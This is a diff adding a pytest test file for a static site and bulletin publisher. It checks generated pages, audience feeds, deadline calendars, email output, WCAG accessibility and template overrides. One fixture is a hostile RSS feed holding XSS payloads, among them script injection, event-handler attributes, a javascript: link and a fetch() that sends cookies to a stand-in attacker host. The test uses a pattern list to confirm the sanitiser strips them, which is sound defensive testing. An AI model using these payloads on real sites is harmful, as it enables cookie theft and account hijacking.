@@ -1,0 +1,225 @@
+"""The built site: pages, per-audience feeds and calendars, sanitising, accessibility."""
+
+import email
+import email.policy
+import shutil
+
+import feedparser
+import pytest
+from click.testing import CliRunner
+from icalendar import Calendar
+
+from publisher.cli import cli
+from publisher.serve import serve_directory
+
+HOSTILE_FEED = b"""<?xml version="1.0" encoding="utf-8"?>
+<rss version="2.0"><channel><title>Hostile</title><link>https://evil.example/</link>
+<description>Feed content is untrusted</description>
+<item>
+  <title>Alert &lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;</title>
+  <link>https://evil.example/1</link><guid>evil-1</guid>
+  <pubDate>Wed, 14 Feb 2024 09:00:00 +0000</pubDate>
+  <description><![CDATA[<p onmouseover="steal()">Read
+  <a href="javascript:alert(document.cookie)">this</a>
+  <script>fetch('https://evil.example/?c='+document.cookie)</script>
+  <style>body{display:none}</style>
+  <span style="position:fixed;top:0;left:0;width:100%;height:100%;
+               background:url(https://evil.example/track.png)">overlay</span>
+  <iframe src="https://evil.example/frame"></iframe><img src="https://evil.example/pixel.gif">
+  <a href="https://ok.example/page" onclick="x()">safe link</a></p>]]></description>
+</item>
+</channel></rss>"""
+
+DANGEROUS = (
+    "<script",
+    "onerror",
+    "onmouseover",
+    'onclick="x',
+    "javascript:",
+    "body{display:none}",
+    "position:fixed",
+    "<iframe",
+    "evil.example/pixel",
+    "evil.example/track",
+    "alert(document",
+)
+
+
+@pytest.fixture(scope="module")
+def demo_site(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("demo")
+    result = CliRunner().invoke(cli, ["demo", str(folder)])
+    assert result.exit_code == 0, result.output
+    return folder
+
+
+def test_pages_for_bulletins_and_mi_sheets(demo_site):
+    site = demo_site / "site"
+    for page in (
+        "index.html",
+        "updates.html",
+        "subscribe.html",
+        "mi/index.html",
+        "mi/mi-1-24.html",
+        "mi/mi-2-24.html",
+        "bulletins/index.html",
+        "bulletins/2024-02/index.html",
+        "bulletins/2024-02/dsls.html",
+        "bulletins/2024-02/early-years.html",
+    ):
+        assert (site / page).exists(), page
+    sheet = (site / "mi" / "mi-1-24.html").read_text()
+    assert '<th scope="row">To Be Completed By</th><td>12/01/2024</td>' in sheet
+    assert "@media print" in (site / "style.css").read_text()
+    early_years = (site / "bulletins" / "2024-02" / "early-years.html").read_text()
+    assert "Online safety" not in early_years  # a section for headteachers and DSLs only
+    assert "Guidance and regulation" in early_years or "Nothing for this audience" in early_years
+
+
+def test_audience_feeds_are_valid_and_guids_stable(demo_site, tmp_path):
+    site = demo_site / "site"
+    guids = {}
+    for name in ("dsls.rss", "dsls.atom", "governors.rss"):
+        feed = feedparser.parse((site / "feeds" / name).read_bytes())
+        assert not feed.bozo, (name, feed.get("bozo_exception"))
+        guids[name] = [entry.id for entry in feed.entries]
+    assert guids["dsls.rss"] == guids["dsls.atom"]
+    assert "tag:localhost,2024:mi/1/24" in guids["dsls.rss"]
+    assert "tag:localhost,2024:bulletin/2024-02/dsls" in guids["dsls.rss"]
+    assert not feedparser.parse((site / "feed.xml").read_bytes()).bozo
+
+    rebuilt = tmp_path / "rebuilt"
+    config = demo_site / "feeds.yaml"
+    CliRunner().invoke(
+        cli,
+        [
+            "--config",
+            str(config),
+            "--data-dir",
+            str(demo_site / "data"),
+            "build",
+            "--output",
+            str(rebuilt),
+        ],
+    )
+    again = feedparser.parse((rebuilt / "feeds" / "dsls.rss").read_bytes())
+    assert [entry.id for entry in again.entries] == guids["dsls.rss"]
+
+
+def test_calendar_of_action_deadlines(demo_site):
+    calendar = Calendar.from_ical((demo_site / "site" / "calendars" / "dsls.ics").read_bytes())
+    events = {str(e["uid"]): e for e in calendar.walk("VEVENT")}
+    assert set(events) == {"mi-1-24@localhost", "mi-2-24@localhost"}
+    event = events["mi-1-24@localhost"]
+    assert event.decoded("dtstart").isoformat() == "2024-01-12"
+    assert str(event["summary"]).startswith("Due: MI 1/24 ACTION by 12/01/2024")
+
+
+def test_hostile_feed_html_never_reaches_pages_feeds_or_email(server, project, tmp_path):
+    server.expect_request("/hostile.rss").respond_with_data(
+        HOSTILE_FEED, content_type="application/rss+xml"
+    )
+    project.configure(
+        [{"id": "hostile", "kind": "feed", "url": server.url_for("/hostile.rss")}],
+        bulletin={"sections": [{"title": "Online safety", "sources": ["hostile"]}]},
+    )
+    project.run("fetch")
+    project.run("bulletin", "build", "--month", "2024-02")
+    project.run("build", "--output", str(tmp_path / "site"))
+    outputs = {
+        "updates page": (tmp_path / "site" / "updates.html").read_text(),
+        "bulletin page": (tmp_path / "site" / "bulletins" / "2024-02" / "dsls.html").read_text(),
+        "items feed": (tmp_path / "site" / "feed.xml").read_text(),
+    }
+    message = email.message_from_bytes(
+        (project.data_dir / "bulletins" / "2024-02" / "dsls.eml").read_bytes(),
+        policy=email.policy.default,
+    )
+    outputs["email html"] = message.get_body(("html",)).get_content()
+    outputs["email text"] = message.get_body(("plain",)).get_content()
+    for name, text in outputs.items():
+        for dangerous in DANGEROUS:
+            assert dangerous not in text, f"{dangerous!r} reached the {name}"
+        assert "safe link" in text, name
+    assert 'href="https://ok.example/page"' in outputs["bulletin page"]
+
+
+@pytest.mark.browser
+def test_pages_have_no_axe_violations(demo_site):
+    """WCAG 2.2 AA: axe-core in headless Chromium finds nothing on any kind of page."""
+    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
+    if chromium is None:
+        pytest.fail("Chromium is not installed (apt-get install chromium); .ci/run installs it")
+    from axe_playwright_python.sync_playwright import Axe
+    from playwright.sync_api import sync_playwright
+
+    pages = [
+        "index.html",
+        "updates.html",
+        "subscribe.html",
+        "mi/index.html",
+        "mi/mi-1-24.html",
+        "bulletins/index.html",
+        "bulletins/2024-02/index.html",
+        "bulletins/2024-02/dsls.html",
+    ]
+    axe = Axe()
+    problems = {}
+    with serve_directory(demo_site / "site") as base_url, sync_playwright() as playwright:
+        browser = playwright.chromium.launch(
+            executable_path=chromium,
+            args=[
+                "--no-sandbox",
+                "--disable-gpu",
+                "--disable-background-networking",
+                "--disable-component-update",
+                "--disable-sync",
+                "--no-first-run",
+            ],
+        )
+        page = browser.new_page()
+        for path in pages:
+            page.goto(base_url + path)
+            results = axe.run(
+                page,
+                options={
+                    "runOnly": {
+                        "type": "tag",
+                        "values": [
+                            "wcag2a",
+                            "wcag2aa",
+                            "wcag21a",
+                            "wcag21aa",
+                            "wcag22aa",
+                            "best-practice",
+                        ],
+                    }
+                },
+            )
+            if results.violations_count:
+                problems[path] = results.generate_report()
+        browser.close()
+    assert not problems, "\n".join(f"{path}:\n{report}" for path, report in problems.items())
+
+
+def test_templates_in_the_configured_folder_override_built_in_ones(project, register_plugin):
+    from publisher import hookimpl
+
+    overrides = project.path / "my-templates" / "email"
+    overrides.mkdir(parents=True)
+    (overrides / "mi_sheet.txt").write_text("Our own layout: {{ notice.title }} ({{ extra }})\n")
+
+    class AddsContext:
+        @hookimpl
+        def prepare_context(self, context, template_name):
+            context["extra"] = f"via prepare_context for {template_name}"
+
+    register_plugin(AddsContext(), name="context-test")
+    project.configure(
+        [{"id": "news", "kind": "feed", "url": "http://127.0.0.1:9/"}],
+        settings={"templates": "my-templates"},
+    )
+    project.run("mi", "new", "--title", "Custom")
+    assert project.run("mi", "show", "1").output == (
+        "Our own layout: Custom (via prepare_context for email/mi_sheet.txt)\n"
+    )
